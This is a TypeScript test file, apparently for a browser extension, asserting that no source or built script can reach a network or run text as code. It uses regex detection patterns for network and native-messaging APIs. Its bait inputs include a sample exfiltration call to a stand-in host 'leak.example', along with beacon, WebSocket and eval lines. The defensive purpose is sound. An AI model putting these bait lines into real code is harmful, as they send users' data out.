import { expect, test } from 'vitest';
import { builtScripts } from './built';
import { codeUnder, filesWith, type Source } from './sources';

/**
 * The only files that may reach a network: one that fetches packs and one that reads files of our own package. Neither
 * is written yet, so nothing may.
 */
const MAY_REACH: readonly string[] = [];

const REACHES =
  /\bfetch\b|\bXMLHttpRequest\b|\bsendBeacon\b|\bWebSocket(Stream)?\b|\bEventSource\b|\bWebTransport\b|\bRTCPeerConnection\b|\bimportScripts\b|\bnew Image\b|\bnew (Shared)?Worker\b|\bserviceWorker\b/;
/** Ways out of the browser that are no request, and ways to run what came in as text. The polyfill names some of them. */
const LEAVES =
  /\b(sendNativeMessage|connectNative|setUninstallURL|downloads|onMessageExternal|onConnectExternal|new Function|eval)\b/;
/** In a bundle shown words stand beside code, so a plain word does not count: a call, a member or a name in quotes does. */
const REACHES_IN_BUNDLE =
  /(?<![\w$])fetch\s*\(|\.fetch\b|["'`]fetch["'`]|\bXMLHttpRequest\b|\bsendBeacon\b|\bWebSocket(Stream)?\b|\bEventSource\b|\bWebTransport\b|\bRTCPeerConnection\b|\bimportScripts\b|\bnew Image\b|\bnew (Shared)?Worker\b|(?<![\w$])eval\s*\(|\bnew Function\b/;

test('code that can reach a network is exactly the files named for it', () => {
  expect(filesWith(codeUnder('src'), REACHES)).toEqual(MAY_REACH);
  expect(MAY_REACH.length).toBeLessThanOrEqual(2);
});

test('nothing leaves the browser by another door, and no text is run as code', () => {
  expect(filesWith(codeUnder('src'), LEAVES)).toEqual([]);
});

test.each(['chromium', 'firefox'] as const)('no script of the %s build can reach a network', (target) => {
  const scripts = builtScripts(target);
  expect(scripts.length).toBeGreaterThan(3);
  expect(filesWith(scripts, REACHES_IN_BUNDLE)).toEqual([]);
});

test.each([
  "fetch('https://leak.example/?' + text)",
  "globalThis['fetch'](address)",
  'const send = self.fetch;',
  'navigator.sendBeacon(address, text)',
  'new WebSocket(address)',
  'new Image().src = address',
  'new XMLHttpRequest',
])('these laws see %s', (text) => {
  const bait: Source[] = [{ path: 'bait.js', text }];
  expect(filesWith(bait, REACHES)).toEqual(['bait.js']);
  expect(filesWith(bait, REACHES_IN_BUNDLE)).toEqual(['bait.js']);
});

test.each(['runtime.connectNative("x")', 'eval(text)', 'new Function(text)', 'runtime.setUninstallURL(address)'])(
  'these laws see %s',
  (text) => expect(filesWith([{ path: 'bait.js', text }], LEAVES)).toEqual(['bait.js']),
);
